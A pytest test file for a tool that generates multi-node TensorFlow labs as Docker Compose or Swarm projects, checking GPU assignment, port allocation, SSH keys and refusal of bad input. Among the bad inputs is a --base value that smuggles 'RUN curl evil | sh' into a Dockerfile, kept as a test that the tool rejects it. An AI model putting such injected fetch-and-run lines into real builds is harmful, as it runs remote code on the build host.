"""`tflab gen` end to end through CliRunner, and every bad input it must refuse cleanly."""

from __future__ import annotations

import os
import socket
from pathlib import Path

import pytest
import yaml
from conftest import cli, snapshot

from tflab.host import ports


@pytest.fixture(autouse=True)
def host_ports_free(request, monkeypatch: pytest.MonkeyPatch) -> None:
    """gen checks that the lab's ports are free on the host: here they are, whatever the host runs
    (a test that needs a taken port takes one for real)."""
    if "real_ports" not in request.keywords:
        monkeypatch.setattr(ports, "port_free", lambda host, port: True)


def test_reference_case_from_the_fake_nvidia_smi(runner, fake_nvidia_smi: Path, tmp_path: Path) -> None:
    lab = tmp_path / "lab"
    result = runner.invoke(cli, ["gen", "--nodes", "4", "--gpus-per-node", "2", "--lab", str(lab)])
    assert result.exit_code == 0, result.stderr
    rows = [line for line in result.stdout.splitlines() if line.startswith("│")]
    assert [r.split("│")[1:4] for r in rows] == [
        [" ps0     ", " ps             ", " 0,1  "],
        [" worker0 ", " worker (chief) ", " 2,3  "],
        [" worker1 ", " worker         ", " 4,5  "],
        [" worker2 ", " worker         ", " 6,7  "],
    ]
    assert " 20022 " in rows[0] and " 26009 " in rows[3]
    assert "ports are published on 127.0.0.1" in result.stdout
    assert "GPU 7  [ worker2 ]  NVIDIA H100 80GB HBM3" in result.stdout
    doc = yaml.safe_load((lab / "docker-compose.yml").read_text())
    assert doc["services"]["ps0"]["deploy"]["resources"]["reservations"]["devices"][0]["device_ids"] == ["0", "1"]
    assert doc["services"]["worker2"]["deploy"]["resources"]["reservations"]["devices"][0]["device_ids"] == ["6", "7"]
    saved = yaml.safe_load((lab / "tflab.yaml").read_text())
    assert saved["gpus"][0] == {"index": 0, "name": "NVIDIA H100 80GB HBM3", "memory_mib": 81559}
    assert saved["image"]["base"] == "auto"
    dockerfile = (lab / "image" / "Dockerfile").read_text()
    assert "ARG BASE_IMAGE=tensorflow/tensorflow:2.18.0-gpu" in dockerfile
    private = lab / "keys" / "id_ed25519"
    assert private.read_text().startswith("-----BEGIN OPENSSH PRIVATE KEY-----")
    assert oct(private.stat().st_mode & 0o777) == "0o600"
    assert (lab / "keys" / "id_ed25519.pub").read_text().startswith("ssh-ed25519 ")


def test_code_folder_brings_its_tasks_and_paths_are_kept_relative(runner, tmp_path: Path) -> None:
    repo_examples = Path(__file__).resolve().parent.parent / "examples"
    lab = tmp_path / "lab"
    result = runner.invoke(cli, ["gen", "--lab", str(lab), "--code", str(repo_examples), "--ps", "0"])
    assert result.exit_code == 0, result.stderr
    saved = yaml.safe_load((lab / "tflab.yaml").read_text())
    assert saved["code"] == os.path.relpath(repo_examples, lab)
    assert saved["tasks"]["train"]["command"].startswith("python /workspace/mnist_async.py --job_name={job_name}")
    assert saved["tasks"]["train"]["batch"] == 64 and saved["tasks"]["allreduce"]["batch"] == "32 per worker"
    assert saved["tasks"]["ps_strategy"] == {"command": "python /workspace/ps_strategy.py", "servers": ["ps", "worker"]}


def test_force_overwrites_an_existing_lab(runner, tmp_path: Path) -> None:
    lab = tmp_path / "lab"
    assert runner.invoke(cli, ["gen", "--lab", str(lab), "--nodes", "2"]).exit_code == 0
    result = runner.invoke(cli, ["gen", "--lab", str(lab), "--nodes", "3", "--force"])
    assert result.exit_code == 0, result.stderr
    assert yaml.safe_load((lab / "tflab.yaml").read_text())["topology"]["nodes"] == 3


def occupied_port() -> socket.socket:
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen()
    return sock


BAD_INPUTS = [
    (["--nodes", "0"], "--nodes must be at least 1"),
    (["--nodes", "-3"], "--nodes must be at least 1"),
    (["--nodes", "four"], "'four' is not a valid integer"),
    (["--gpus-per-node", "-1"], "--gpus-per-node cannot be negative"),
    (["--gpus-per-node", "x"], "'x' is not a valid integer"),
    (["--gpus", "0-7", "--gpus-per-node", "3"], "needs 12 GPUs (4 nodes x 3) but the host has 8; use fewer --nodes or --gpus-per-node, or --share-gpus"),
    (["--gpus", "0-3x", "--gpus-per-node", "1"], "is not a GPU list"),
    (["--gpus", "3-1", "--gpus-per-node", "1"], "runs backwards"),
    (["--nodes", "2", "--ps", "2"], "--ps 2 leaves no worker among 2 node(s)"),
    (["--ssh-port-base", "65534"], "runs to port 65537, past 65535"),
    (["--tensorboard-port-base", "70000"], "past 65535"),
    (["--data-mode", "rsync"], "--data-mode must be copy or mount"),
    (["--code", "/no/such/folder"], "--code /no/such/folder: no such folder"),
    (["--data", "/no/such/folder"], "--data /no/such/folder: no such folder"),
    (["--link-rate", "fast"], "--link-rate 'fast' is not a rate: write a number and a unit, such as 100mbit"),
    (["--link-rate", "0"], "--link-rate '0' is not a rate"),
    (["--link-rate", "0mbit"], "--link-rate '0mbit' is too slow for a link"),
    (["--link-delay", "-1"], "--link-delay '-1' must be between 0 and 60000 milliseconds"),
    (["--link-delay", "soon"], "--link-delay 'soon' is not a number of milliseconds"),
    (["--target", "k8s"], "--target must be compose or swarm, not 'k8s'"),
    (["--place", "ps0=a"], "--place and --registry are for swarm labs: add --target swarm"),
    (["--target", "swarm", "--bind", "0.0.0.0", "--place", "ps9=a"], "--place 'ps9=a': no node 'ps9' in this lab"),
    (["--target", "swarm", "--bind", "0.0.0.0", "--place", "ps0"], "--place 'ps0': write NODE=HOST"),
    # issue 30.6: a swarm cannot bind an address; it is said, not done unasked
    (["--target", "swarm"], "a swarm lab cannot publish on 127.0.0.1: Swarm publishes each node's SSH"),
    (["--target", "swarm", "--bind", "192.168.1.5"], "pass --bind 0.0.0.0 to accept that"),
    # issue 30.7: text that would be written into generated files
    (["--base", "python:3.11\nRUN curl evil | sh"], "--base 'python:3.11\\nRUN curl evil | sh' is not an image name"),
    (["--base", "Tensorflow/TF"], "is not an image name"),
    (["--target", "swarm", "--bind", "0.0.0.0", "--place", "ps0=# b"], "--place ps0= '# b' is not a host name"),
    (["--target", "swarm", "--bind", "0.0.0.0", "--place", "ps0=gpu: a"], "is not a host name"),
    (["--name", "lab\n# injected"], "must be one line of at most 100 characters"),
    # numbers without bounds (issue 30.10, 30.11)
    (["--memory-per-node", "1000"], "--memory-per-node '1000' is not a size: write a number and a unit"),
    (["--memory-per-node", "100k"], "--memory-per-node '100k' is too little for a node"),
    (["--memory-per-node", "99999t"], "is more memory than any host has"),
    (["--cpus-per-node", "0.001"], "--cpus-per-node '0.001' is less than the engine can give a node"),
    (["--cpus-per-node", "1e9"], "is more CPUs than any host has"),
    (["--nodes", "5984"], "--nodes 5984 is more than a lab holds (at most 4096)"),
    (["--link-rate", "99999999999tbit"], "is faster than tc shapes a link: use at most 100gbit"),
    (["--gpus", "0-2999999", "--gpus-per-node", "1"], "GPU 2999999 is past the last a host can have (1023)"),
    (["--gpus", "\u00b2", "--gpus-per-node", "1"], "is not a GPU list"),
    (["--memory-per-node", "\u00b2g"], "is not a size"),
]


@pytest.mark.parametrize(("args", "message"), BAD_INPUTS)
def test_bad_input_is_one_line_and_writes_nothing(runner, tmp_path: Path, args: list[str], message: str) -> None:
    lab = tmp_path / "lab"
    lab.mkdir()
    (lab / "notes.txt").write_text("mine")
    before = snapshot(lab)
    result = runner.invoke(cli, ["gen", "--lab", str(lab), *args])
    assert result.exit_code != 0
    assert message in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert "Traceback" not in result.stderr + result.stdout
    assert snapshot(lab) == before


def test_gpus_without_nvidia_smi(runner, no_nvidia_smi: None, tmp_path: Path) -> None:
    result = runner.invoke(cli, ["gen", "--lab", str(tmp_path / "lab"), "--gpus-per-node", "2"])
    assert result.exit_code == 2
    assert "--gpus-per-node 2 needs GPUs, but this host has none (no nvidia-smi found)" in result.stderr
    assert not (tmp_path / "lab").exists()


def test_too_many_gpus_from_nvidia_smi_says_how_many(runner, fake_nvidia_smi: Path, tmp_path: Path) -> None:
    result = runner.invoke(cli, ["gen", "--lab", str(tmp_path / "lab"), "--nodes", "5", "--gpus-per-node", "2"])
    assert result.exit_code == 2
    assert "the host has 8" in result.stderr and "--share-gpus" in result.stderr
    assert not (tmp_path / "lab").exists()


@pytest.mark.real_ports
def test_port_already_taken(runner, tmp_path: Path) -> None:
    with occupied_port() as sock:
        port = sock.getsockname()[1]
        result = runner.invoke(cli, ["gen", "--lab", str(tmp_path / "lab"), "--nodes", "2",
                                     "--ssh-port-base", str(port - 1)])
    assert result.exit_code == 2
    assert f"port 127.0.0.1:{port} (SSH of worker0) is already in use" in result.stderr
    assert not (tmp_path / "lab").exists()


def test_a_second_lab_takes_the_first_free_ranges_from_the_defaults_on(runner, tmp_path: Path,
                                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """Another lab holds 20022-20025 and 26006-26009 (and something else 20027): gen without port options takes the
    next ranges that are free whole, says so, and keeps them in tflab.yaml."""
    held = {*range(20022, 20026), 20027, *range(26006, 26010)}
    monkeypatch.setattr(ports, "port_free", lambda host, port: port not in held)
    result = runner.invoke(cli, ["gen", "--lab", str(tmp_path / "lab"), "--nodes", "3"])
    assert result.exit_code == 0, result.stderr
    assert yaml.safe_load((tmp_path / "lab" / "tflab.yaml").read_text())["ports"] == {
        "ssh_base": 20028, "tensorboard_base": 26010, "bind": "127.0.0.1"}
    assert ("ports: SSH 20028-20030, TensorBoard 26010-26012 (the first free from 20022 and 26006: another lab, or "
            "something else, "
            "holds those; --ssh-port-base and --tensorboard-port-base choose)") in " ".join(result.stdout.split())
    mine = runner.invoke(cli, ["gen", "--lab", str(tmp_path / "mine"), "--nodes", "3", "--ssh-port-base", "20022"])
    assert mine.exit_code == 2, "a base given and taken stays an error"
    assert "port 127.0.0.1:20022 (SSH of ps0) is already in use" in mine.stderr


def test_two_labs_generated_before_either_is_up_take_ranges_apart(runner, tmp_path: Path,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    """gen, gen, up, up: the second gen passes by the ports the first lab publishes though it is not up yet; a lab
    removed, or made again with other ports, no longer claims its old ones."""
    def gen(name: str, *args: str) -> dict:
        result = runner.invoke(cli, ["gen", "--lab", str(tmp_path / name), "--nodes", "2", *args])
        assert result.exit_code == 0, result.stderr
        return yaml.safe_load((tmp_path / name / "tflab.yaml").read_text())["ports"]

    assert gen("one")["ssh_base"] == 20022
    assert (gen("two")["ssh_base"], gen("two", "--force")["ssh_base"]) == (20024, 20024), "its own are its own"
    assert gen("three")["tensorboard_base"] == 26010
    import shutil

    shutil.rmtree(tmp_path / "one")
    assert gen("four")["ssh_base"] == 20022, "a lab that is gone claims nothing"
    assert gen("two", "--force", "--ssh-port-base", "30000", "--tensorboard-port-base", "31000")["ssh_base"] == 30000
    assert gen("five")["ssh_base"] == 20024, "two's old ports are free again"


@pytest.mark.real_ports
def test_a_free_range_is_free_whole_on_the_host(tmp_path: Path) -> None:
    with occupied_port() as sock:
        port = sock.getsockname()[1]
        assert ports.first_free_base("127.0.0.1", port - 1, 3, avoid=[port + 3]) == port + 4
    with pytest.raises(Exception, match="no 3 free ports in a row from 65534"):
        ports.first_free_base("127.0.0.1", 65534, 3)


def test_existing_lab_without_force(runner, tmp_path: Path) -> None:
    lab = tmp_path / "lab"
    assert runner.invoke(cli, ["gen", "--lab", str(lab), "--nodes", "2"]).exit_code == 0
    before = snapshot(lab)
    result = runner.invoke(cli, ["gen", "--lab", str(lab), "--nodes", "3"])
    assert result.exit_code == 2
    assert result.stderr.strip() == f"tflab: error: a lab already exists in {lab}; pass --force to overwrite it"
    assert snapshot(lab) == before


def test_gen_without_options_writes_the_examples_and_their_data(runner, tmp_path: Path) -> None:
    lab = tmp_path / "lab"
    result = runner.invoke(cli, ["gen", "--lab", str(lab)])
    assert result.exit_code == 0, result.stderr
    saved = yaml.safe_load((lab / "tflab.yaml").read_text())
    assert (saved["code"], saved["data"], saved["image"]["base"]) == ("code", "data", "auto")
    assert set(saved["tasks"]) >= {"train", "allreduce", "hello", "single", "ps_strategy"}
    assert (lab / "code" / "mnist_async.py").is_file() and (lab / "code" / "tflab_example.py").is_file()
    assert not (lab / "code" / "data").exists()
    import numpy as np

    with np.load(lab / "data" / "digits.npz") as digits:
        assert digits["x_train"].shape == (1437, 8, 8) and digits["y_test"].shape == (360,)
    assert "tasks: train, hello, allreduce, ps_strategy, single" in result.stdout


def test_gen_force_keeps_the_users_code_and_its_tasks(runner, tmp_path: Path) -> None:
    lab = tmp_path / "lab"
    assert runner.invoke(cli, ["gen", "--lab", str(lab)]).exit_code == 0
    (lab / "code" / "mnist_async.py").write_text("# my edit\n")
    (lab / "code" / "tflab.yaml").write_text("tasks:\n  mine: python /workspace/mine.py\n")
    assert runner.invoke(cli, ["gen", "--lab", str(lab), "--nodes", "3", "--force"]).exit_code == 0
    assert (lab / "code" / "mnist_async.py").read_text() == "# my edit\n"
    assert list(yaml.safe_load((lab / "tflab.yaml").read_text())["tasks"]) == ["mine"]


def test_links_and_swarm_settings_are_recorded(runner, tmp_path: Path) -> None:
    lab = tmp_path / "lab"
    result = runner.invoke(cli, ["gen", "--lab", str(lab), "--link-rate", "100Mbit", "--link-delay", "5",
                                 "--target", "swarm", "--bind", "0.0.0.0", "--place", "ps0=host-a", "--registry", "reg.example:5000"])
    assert result.exit_code == 0, result.stderr
    saved = yaml.safe_load((lab / "tflab.yaml").read_text())
    assert saved["links"] == {"rate": "100mbit", "delay_ms": 5.0}
    assert saved["target"] == "swarm" and saved["swarm"] == {"place": {"ps0": "host-a"}, "registry": "reg.example:5000"}
    assert saved["image"]["memlock"] is None
    assert "links: 100mbit, 5 ms delay on every node's link, both ways" in result.stdout


def test_help_reads_plainly_piped_and_gen_groups_its_options(runner) -> None:
    # issue 28: `\[default: 4]` in every --help; gen's 30 options in one block
    from tflab.cli.app import app

    names = [c.name for c in app.registered_commands] + ["render k8s", "fault kill", "fault clear"]
    for name in names:
        result = runner.invoke(cli, [*name.split(), "--help"], terminal_width=60)
        assert result.exit_code == 0, (name, result.stderr)
        assert "\\[" not in result.stdout, (name, result.stdout)
    text = runner.invoke(cli, ["gen", "--help"], terminal_width=100).stdout
    assert "[default: 4]" in text
    import subprocess
    import sys

    piped = subprocess.run([sys.executable, "-m", "tflab", "gen", "--help"], capture_output=True, text=True,
                           timeout=60, env={**__import__("os").environ, "COLUMNS": "60"})  # __main__, into a pipe
    assert piped.returncode == 0 and "[default: 4]" in piped.stdout and "\\[" not in piped.stdout, piped.stdout
    headings = [line for line in text.splitlines() if line and not line.startswith(" ") and line.endswith(":")]
    assert headings == ["Topology:", "A node's resources:", "Ports:", "Images, code and data:", "Links and faults:",
                        "Beyond one host:", "The lab:", "Options:"], headings


def test_gen_goes_on_where_the_index_of_labs_cannot_be_written(runner, tmp_path: Path, own_lab_index: Path,
                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    """A read-only cache folder (a shared account, a container): gen still writes the lab, with the ports in use."""
    from tflab.host import labindex

    blocked = tmp_path / "not-a-folder"
    blocked.write_text("a file where the cache folder would be")
    monkeypatch.setattr(labindex, "index_path", lambda: blocked / "labs.json")
    result = runner.invoke(cli, ["gen", "--lab", str(tmp_path / "lab"), "--nodes", "2"])
    assert result.exit_code == 0, result.stderr
    assert yaml.safe_load((tmp_path / "lab" / "tflab.yaml").read_text())["ports"]["ssh_base"] == 20022


def test_labs_lists_the_labs_generated_here_with_how_many_nodes_run(runner, tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    for name in ("first", "second"):
        made = runner.invoke(cli, ["gen", "--lab", str(tmp_path / name), "--nodes", "2", "--gpus-per-node", "0",
                                   "--name", f"mine-{name}"])
        assert made.exit_code == 0, made.stderr
    (tmp_path / "second" / "tflab.yaml").unlink()  # a lab removed by hand is no lab any more
    shown = runner.invoke(cli, ["labs"], env={"COLUMNS": "200"})
    assert shown.exit_code == 0, shown.stderr
    rows = [line for line in shown.stdout.splitlines() if "mine-" in line]
    assert len(rows) == 1 and str(tmp_path / "first") in rows[0] and "down" in rows[0], shown.stdout


def test_gen_warns_when_each_node_is_too_small_to_start_tensorflow(runner, tmp_path: Path) -> None:
    """A lab that would spend minutes importing TensorFlow says so at gen, with the cure; a fair one says nothing."""
    small = runner.invoke(cli, ["gen", "--lab", str(tmp_path / "small"), "--nodes", "2", "--gpus-per-node", "0",
                                "--cpus-per-node", "0.1"], env={"COLUMNS": "200"})
    assert small.exit_code == 0, small.stderr
    said = " ".join(small.stdout.split())
    assert "warning: each node has 0.1 CPU: importing TensorFlow (about 6 CPU-s) takes about 60 s at that" in said
    assert "`tflab set` changes them" in said
    fair = runner.invoke(cli, ["gen", "--lab", str(tmp_path / "fair"), "--nodes", "2", "--gpus-per-node", "0",
                               "--cpus-per-node", "0.5"], env={"COLUMNS": "200"})
    assert fair.exit_code == 0, fair.stderr
    assert "warning: each node" not in fair.stdout
